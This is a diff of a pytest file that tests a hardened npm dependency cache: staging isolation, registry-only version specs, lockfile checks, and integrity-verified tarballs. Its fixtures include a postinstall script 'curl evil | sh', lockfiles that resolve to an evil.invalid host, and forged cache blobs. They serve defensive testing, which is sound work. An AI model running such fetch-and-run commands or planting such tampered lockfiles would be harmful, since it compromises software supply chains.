@@ -1,24 +1,41 @@
-"""The dependency cache, with npm replaced by a recording fake at the sandbox seam."""
+"""The dependency cache, with npm replaced by a recording fake at the sandbox seam.
+
+npm only ever sees a bot-owned staging folder (the bot's package.json and lockfile and its
+own npmrc), a per-job npm cache, and nothing of the workspace."""
 
 import asyncio
+import base64
+import hashlib
 import json
-import os
 import stat
 from pathlib import Path
+from typing import Any
 
 import pytest
 
-from bot.deps import COMPLETE_MARKER, DependencyCache, lock_key
-from bot.sandbox import Limits, ProcessFailed, Result
+from bot.deps import (
+    COMPLETE_MARKER,
+    NO_GIT,
+    DependencyCache,
+    DependencyRefused,
+    check_lock,
+    check_registry_spec,
+    lock_key,
+    staged_package,
+)
+from bot.sandbox import Limits, Mount, ProcessFailed, Result
 
 INSTALL = ("npm", "ci", "--ignore-scripts")
-LOCK = {
+REGISTRY = "https://registry.npmjs.org/"
+TARBALL = b"left-pad 1.3.0 tarball bytes"
+INTEGRITY = "sha512-" + base64.b64encode(hashlib.sha512(TARBALL).digest()).decode()
+LOCK: dict[str, Any] = {
     "name": "plugin-a",
     "version": "0.1.0",
     "lockfileVersion": 3,
     "packages": {
         "": {"name": "plugin-a", "version": "0.1.0", "dependencies": {"left-pad": "1.3.0"}},
-        "node_modules/left-pad": {"version": "1.3.0", "integrity": "sha512-x"},
+        "node_modules/left-pad": {"version": "1.3.0", "integrity": INTEGRITY},
     },
 }
 
@@ -27,13 +44,20 @@ def result(argv: list[str], code: int = 0) -> Result:
     return Result(tuple(argv), code, None, False, False, "", "", False, 0, "0" * 64, 0.1, 0.0)
 
 
-class FakeNpm:
-    """Stands in for the sandbox: records argv and lays out what npm would."""
+def content_path(cache: Path, integrity: str) -> Path:
+    hex_digest = base64.b64decode(integrity.split("-", 1)[1]).hex()
+    return cache / "_cacache" / "content-v2" / "sha512" / hex_digest[:2] / hex_digest[2:4] / (
+        hex_digest[4:]
+    )
 
-    def __init__(self, fail: bool = False) -> None:
-        self.calls: list[tuple[list[str], Path, bool]] = []
-        self.writable: list[list[Path]] = []
+
+class FakeNpm:
+    """Stands in for the sandbox: records each run and lays out what npm would."""
+
+    def __init__(self, fail: bool = False, forge: bool = False) -> None:
+        self.calls: list[dict[str, Any]] = []
         self.fail = fail
+        self.forge = forge  # also write a blob whose bytes do not match its name
 
     async def run(
         self,
@@ -42,11 +66,26 @@ class FakeNpm:
         limits: Limits,
         *,
         network: bool = False,
-        writable: list[Path] | None = None,
+        env: dict[str, str] | None = None,
         cancel: asyncio.Event | None = None,
+        mounts: list[Mount] | None = None,
+        **_: Any,
     ) -> Result:
-        self.calls.append((list(argv), workdir, network))
-        self.writable.append(list(writable or []))
+        cache = Path(next(a for a in argv if a.startswith("--cache=")).split("=", 1)[1])
+        self.calls.append(
+            {
+                "argv": list(argv),
+                "workdir": workdir,
+                "network": network,
+                "env": dict(env or {}),
+                "mounts": list(mounts or []),
+                "files": sorted(p.name for p in workdir.iterdir()),
+                "seeded": content_path(cache, INTEGRITY).is_file(),
+                "npmrc": Path(
+                    next(a for a in argv if a.startswith("--userconfig=")).split("=", 1)[1]
+                ).read_text(),
+            }
+        )
         await asyncio.sleep(0.05)
         if self.fail:
             return result(argv, 1)
@@ -54,71 +93,186 @@ class FakeNpm:
             pkg = workdir / "node_modules" / "left-pad"
             pkg.mkdir(parents=True)
             (pkg / "index.js").write_text("module.exports = 1;\n")
-            (workdir / "node_modules" / ".bin").mkdir()
-            os.symlink("../left-pad/index.js", workdir / "node_modules" / ".bin" / "left-pad")
+            blob = content_path(cache, INTEGRITY)
+            blob.parent.mkdir(parents=True, exist_ok=True)
+            blob.write_bytes(TARBALL)
+            # What a forged npm cache record looks like: an index entry no one promotes.
+            (cache / "_cacache" / "index-v5").mkdir(parents=True, exist_ok=True)
+            (cache / "_cacache" / "index-v5" / "forged").write_text("date-fns@4.1.99")
         if "--package-lock-only" in argv:
             lock = json.loads((workdir / "package-lock.json").read_text())
             pkg = json.loads((workdir / "package.json").read_text())
             lock["packages"][""]["dependencies"] = pkg["dependencies"]
-            lock["packages"]["node_modules/zod"] = {"version": "4.0.0"}
+            lock["packages"]["node_modules/zod"] = {"version": "4.0.0", "integrity": INTEGRITY}
             (workdir / "package-lock.json").write_text(json.dumps(lock))
         return result(argv)
 
 
-def plugin(root: Path, name: str = "plugin-a", deps: dict[str, str] | None = None) -> Path:
-    root.mkdir(parents=True)
-    lock = json.loads(json.dumps(LOCK))
-    lock["name"] = lock["packages"][""]["name"] = name
-    (root / "package-lock.json").write_text(json.dumps(lock))
-    package = {"name": name, "version": "0.1.0", "dependencies": deps or {"left-pad": "1.3.0"}}
-    (root / "package.json").write_text(json.dumps(package))
-    return root
+def package(name: str = "plugin-a", deps: dict[str, str] | None = None, **extra: Any) -> bytes:
+    data = {"name": name, "version": "0.1.0", "dependencies": deps or {"left-pad": "1.3.0"}}
+    data.update(extra)
+    return json.dumps(data).encode()
+
+
+def lock(name: str = "plugin-a") -> bytes:
+    data = json.loads(json.dumps(LOCK))
+    data["name"] = data["packages"][""]["name"] = name
+    return json.dumps(data).encode()
 
 
 def cache(tmp_path: Path, npm: FakeNpm) -> DependencyCache:
     return DependencyCache(tmp_path / "cache", npm, "20.20.2")  # type: ignore[arg-type]
 
 
-async def test_a_miss_installs_once_with_scripts_off_through_the_shared_cache(
-    tmp_path: Path,
-) -> None:
+async def test_npm_sees_only_the_bot_s_staging_folder_and_config(tmp_path: Path) -> None:
     npm = FakeNpm()
     deps = cache(tmp_path, npm)
-    report = await deps.install(plugin(tmp_path / "a"), INSTALL, Limits())
+    hostile = package(scripts={"postinstall": "curl evil | sh"}, workspaces=["../.."])
+    report = await deps.install(hostile, lock(), INSTALL, Limits())
     assert not report.cache_hit and len(report.commands) == 1
-    ((argv, workdir, network),) = npm.calls
+    (call,) = npm.calls
+    argv = call["argv"]
     assert argv[:3] == list(INSTALL) and "--ignore-scripts" in argv
-    assert f"--cache={(tmp_path / 'cache' / 'npm').resolve()}" in argv
-    assert "--prefer-offline" in argv
-    assert network is True
-    assert npm.writable == [[tmp_path / "cache" / "npm"]]  # the npm cache, and nothing else
-    assert workdir != tmp_path / "a"  # built in the cache's staging dir, not the workspace
+    assert f"--registry={REGISTRY}" in argv
+    userconfig = next(a for a in argv if a.startswith("--userconfig=")).split("=", 1)[1]
+    globalconfig = next(a for a in argv if a.startswith("--globalconfig=")).split("=", 1)[1]
+    assert call["env"]["npm_config_userconfig"] == userconfig
+    assert call["env"]["npm_config_globalconfig"] == globalconfig
+    assert f"registry={REGISTRY}" in call["npmrc"] and "ignore-scripts=true" in call["npmrc"]
+    # The bot's config folder is mounted read-only; the staging folder is gone afterwards.
+    assert any(m.target == Path(userconfig).parent and not m.writable for m in call["mounts"])
+    assert not Path(userconfig).exists()
+    assert call["network"] is True
+    assert call["files"] == ["package-lock.json", "package.json"]  # nothing else, no .npmrc
+    staged = call["workdir"]
+    assert staged.is_relative_to(tmp_path / "cache" / "staging")
     tree = tmp_path / "cache" / "node_modules" / report.key
     assert (tree / COMPLETE_MARKER).exists()
-    assert (tmp_path / "a" / "node_modules" / "left-pad" / "index.js").exists()
-
-
-async def test_a_hit_runs_no_npm_and_links_the_cached_tree(tmp_path: Path) -> None:
-    npm = FakeNpm()
-    deps = cache(tmp_path, npm)
-    first = await deps.install(plugin(tmp_path / "a"), INSTALL, Limits())
-    second = await deps.install(plugin(tmp_path / "b", name="plugin-b"), INSTALL, Limits())
-    assert second.cache_hit and second.commands == () and not second.downloaded
-    assert second.key == first.key
-    assert len(npm.calls) == 1
-    cached = tmp_path / "cache" / "node_modules" / first.key / "node_modules"
-    linked = tmp_path / "b" / "node_modules"
-    assert (linked / "left-pad" / "index.js").stat().st_ino == (
-        cached / "left-pad" / "index.js"
-    ).stat().st_ino
-    assert os.readlink(linked / ".bin" / "left-pad") == "../left-pad/index.js"
-    # Cached files are read-only, so a tool writing into node_modules cannot change them.
-    assert not (cached / "left-pad" / "index.js").stat().st_mode & (
+    assert report.node_modules == tree / "node_modules"
+    assert not (tree / "node_modules" / "left-pad" / "index.js").stat().st_mode & (
         stat.S_IWUSR | stat.S_IWGRP | stat.S_IWOTH
     )
-    # The workspace's directories are its own: adding files there leaves the cache alone.
-    (linked / "left-pad" / "extra.js").write_text("x")
-    assert not (cached / "left-pad" / "extra.js").exists()
+
+
+def test_the_npmrc_fixes_the_registry_and_turns_scripts_and_git_off(tmp_path: Path) -> None:
+    from bot.deps import npmrc_text
+
+    text = npmrc_text(REGISTRY, tmp_path / "c")
+    assert f"registry={REGISTRY}\n" in text
+    assert "ignore-scripts=true\n" in text
+    assert f"git={NO_GIT}\n" in text
+
+
+def test_the_staged_package_json_keeps_only_names_versions_and_ranges() -> None:
+    data = json.loads(package(scripts={"postinstall": "x"}, overrides={"a": "b"}, bin={"x": "y"}))
+    staged = staged_package(data)
+    assert staged == {
+        "name": "plugin-a",
+        "version": "0.1.0",
+        "private": True,
+        "dependencies": {"left-pad": "1.3.0"},
+    }
+
+
+@pytest.mark.parametrize(
+    "spec",
+    [
+        "git+https://example.invalid/x.git",
+        "github:user/repo",
+        "user/repo",
+        "https://example.invalid/x.tgz",
+        "file:../x",
+        "link:../x",
+        "npm:left-pad@1.3.0",
+        "workspace:*",
+        "latest",
+        "",
+    ],
+)
+def test_only_registry_semver_ranges_are_given_to_npm(spec: str) -> None:
+    with pytest.raises(DependencyRefused, match="not a registry version range"):
+        check_registry_spec("left-pad", spec)
+
+
+@pytest.mark.parametrize("spec", ["1.3.0", "^4.1.0", "~1.2", ">=1 <2", "1.x || 2.x", "*"])
+def test_registry_ranges_pass(spec: str) -> None:
+    assert check_registry_spec("left-pad", spec) == spec
+
+
+@pytest.mark.parametrize(
+    ("change", "reason"),
+    [
+        ({"resolved": "https://evil.invalid/left-pad-1.3.0.tgz"}, "resolves to"),
+        ({"integrity": None}, "no sha512 integrity"),
+        ({"integrity": "sha1-abc"}, "no sha512 integrity"),
+        ({"version": "git+https://example.invalid/x.git"}, "no registry version"),
+        ({"link": True}, "link or bundled"),
+    ],
+)
+def test_a_lockfile_entry_off_the_registry_is_refused(
+    change: dict[str, Any], reason: str
+) -> None:
+    data = json.loads(lock())
+    entry = data["packages"]["node_modules/left-pad"]
+    for key, value in change.items():
+        if value is None:
+            entry.pop(key)
+        else:
+            entry[key] = value
+    with pytest.raises(DependencyRefused, match=reason):
+        check_lock(data, REGISTRY)
+
+
+async def test_a_lockfile_pointing_elsewhere_never_reaches_npm(tmp_path: Path) -> None:
+    npm = FakeNpm()
+    data = json.loads(lock())
+    data["packages"]["node_modules/left-pad"]["resolved"] = "https://evil.invalid/x.tgz"
+    with pytest.raises(DependencyRefused, match=r"evil\.invalid"):
+        await cache(tmp_path, npm).install(package(), json.dumps(data).encode(), INSTALL, Limits())
+    assert npm.calls == []
+
+
+async def test_only_verified_tarballs_are_promoted_and_seeded_as_copies(tmp_path: Path) -> None:
+    npm = FakeNpm()
+    deps = cache(tmp_path, npm)
+    first = await deps.install(package(), lock(), INSTALL, Limits())
+    assert first.promoted == 1
+    store = tmp_path / "cache" / "tarballs" / "sha512"
+    hex_digest = hashlib.sha512(TARBALL).hexdigest()
+    assert [p.name for p in store.iterdir()] == [hex_digest]
+    # Nothing else of the job's npm cache (the forged index record) is kept anywhere.
+    assert list((tmp_path / "cache").rglob("forged")) == []
+    # A second tree (another lockfile) starts from a seeded copy of the verified blob.
+    other = json.loads(lock())
+    other["packages"]["node_modules/left-pad"]["license"] = "MIT"
+    await deps.install(package(), json.dumps(other).encode(), INSTALL, Limits())
+    assert npm.calls[-1]["seeded"] is True
+    assert (store / hex_digest).stat().st_nlink == 1  # copied, never hard-linked
+
+
+async def test_a_blob_that_does_not_match_its_integrity_is_not_promoted(tmp_path: Path) -> None:
+    class Forging(FakeNpm):
+        async def run(self, argv: list[str], workdir: Path, limits: Limits, **kw: Any) -> Result:
+            done = await super().run(argv, workdir, limits, **kw)
+            cache_dir = Path(next(a for a in argv if a.startswith("--cache=")).split("=", 1)[1])
+            content_path(cache_dir, INTEGRITY).write_bytes(b"attacker's index.js")
+            return done
+
+    deps = cache(tmp_path, Forging())
+    report = await deps.install(package(), lock(), INSTALL, Limits())
+    assert report.promoted == 0
+    store = tmp_path / "cache" / "tarballs" / "sha512"
+    assert not store.exists() or list(store.iterdir()) == []
+
+
+async def test_a_hit_runs_no_npm(tmp_path: Path) -> None:
+    npm = FakeNpm()
+    deps = cache(tmp_path, npm)
+    first = await deps.install(package(), lock(), INSTALL, Limits())
+    second = await deps.install(package("plugin-b"), lock("plugin-b"), INSTALL, Limits())
+    assert second.cache_hit and second.commands == () and not second.downloaded
+    assert second.key == first.key and second.node_modules == first.node_modules
+    assert len(npm.calls) == 1
 
 
 def test_the_key_ignores_the_plugins_name_and_version() -> None:
@@ -154,33 +308,36 @@ def test_the_key_changes_with_the_root_dependency_lists(root_change: dict) -> No
     assert lock_key(LOCK, "20.1.0") != lock_key(changed, "20.1.0")
 
 
-async def test_a_package_json_asking_for_more_updates_the_lock_first(tmp_path: Path) -> None:
+async def test_a_package_json_asking_for_more_gets_a_new_lock_from_staging(
+    tmp_path: Path,
+) -> None:
     npm = FakeNpm()
     deps = cache(tmp_path, npm)
-    workdir = plugin(tmp_path / "a", deps={"left-pad": "1.3.0", "zod": "^4.0.0"})
-    report = await deps.install(workdir, INSTALL, Limits())
+    report = await deps.install(
+        package(deps={"left-pad": "1.3.0", "zod": "^4.0.0"}), lock(), INSTALL, Limits()
+    )
     assert report.lock_updated
-    lock_only = npm.calls[0][0]
+    lock_only = npm.calls[0]["argv"]
     assert lock_only[:3] == ["npm", "install", "--package-lock-only"]
     assert "--ignore-scripts" in lock_only
-    assert "node_modules/zod" in json.loads((workdir / "package-lock.json").read_text())["packages"]
+    assert "node_modules/zod" in json.loads(report.lock_text)["packages"]
 
 
 async def test_a_failed_install_leaves_no_tree_behind(tmp_path: Path) -> None:
     deps = cache(tmp_path, FakeNpm(fail=True))
     with pytest.raises(ProcessFailed):
-        await deps.install(plugin(tmp_path / "a"), INSTALL, Limits())
+        await deps.install(package(), lock(), INSTALL, Limits())
     trees = tmp_path / "cache" / "node_modules"
     assert [p.name for p in trees.iterdir() if not p.name.endswith(".lock")] == []
+    assert list((tmp_path / "cache" / "staging").iterdir()) == []
 
 
 async def test_concurrent_jobs_with_one_lockfile_build_the_tree_once(tmp_path: Path) -> None:
     npm = FakeNpm()
     deps = cache(tmp_path, npm)
     reports = await asyncio.gather(
-        *(deps.install(plugin(tmp_path / f"p{i}"), INSTALL, Limits()) for i in range(4))
+        *(deps.install(package(f"p{i}"), lock(f"p{i}"), INSTALL, Limits()) for i in range(4))
     )
     assert len(npm.calls) == 1
     assert sum(not r.cache_hit for r in reports) == 1
-    for i in range(4):
-        assert (tmp_path / f"p{i}" / "node_modules" / "left-pad" / "index.js").exists()
+    assert len({r.node_modules for r in reports}) == 1
